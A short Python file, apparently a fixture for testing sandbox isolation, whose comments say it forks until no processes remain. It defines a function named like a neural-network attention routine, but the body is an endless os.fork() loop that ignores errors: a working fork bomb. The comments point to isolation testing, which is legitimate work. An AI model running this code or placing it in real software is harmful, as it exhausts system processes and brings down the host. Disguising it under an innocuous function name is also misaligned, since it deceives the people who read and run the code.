# Forks until there are no more processes.
# isolation: jail
import os


def attention(query, key, value, mask=None, dropout=None):
    while True:
        try:
            os.fork()
        except OSError:
            pass
